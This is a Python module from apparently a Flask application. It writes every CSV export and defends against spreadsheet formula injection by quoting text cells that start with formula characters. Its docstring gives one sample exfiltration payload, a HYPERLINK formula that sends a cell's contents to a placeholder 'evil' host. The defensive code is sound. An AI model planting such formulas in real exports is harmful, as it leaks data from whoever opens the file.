"""Every CSV the product writes: report downloads, the case export, import error reports.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (and some read a leading tab or carriage
return the same way), so a customer's comment or a reason label like `=HYPERLINK("http://evil/?"&A1)` would run on
a manager's machine when the export is opened. Such a text cell gets a leading apostrophe (OWASP's advice): the
spreadsheet shows the text as written. Numbers stay numbers, also when they come as text (`-12.5`).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from typing import IO

from flask import Response

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value) -> object:
    """A value as a spreadsheet may read it: None empty, text that would start a formula quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer with every cell passed through `safe_cell`."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(rows: Iterable[Iterable]) -> str:
    buffer = io.StringIO()
    SafeWriter(buffer).writerows(rows)
    return buffer.getvalue()


def csv_chunks(rows: Iterable[Iterable], chunk: int = 64_000) -> Iterator[str]:
    """`rows` as CSV text in pieces of about `chunk` characters, for a streamed download."""
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    for row in rows:
        writer.writerow(row)
        if buffer.tell() > chunk:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_download(rows: Iterable[Iterable], filename: str) -> Response:
    """`rows` (header included, if any) as an attachment."""
    return Response(
        csv_text(rows), mimetype="text/csv", headers={"Content-Disposition": f"attachment; filename={filename}"}
    )
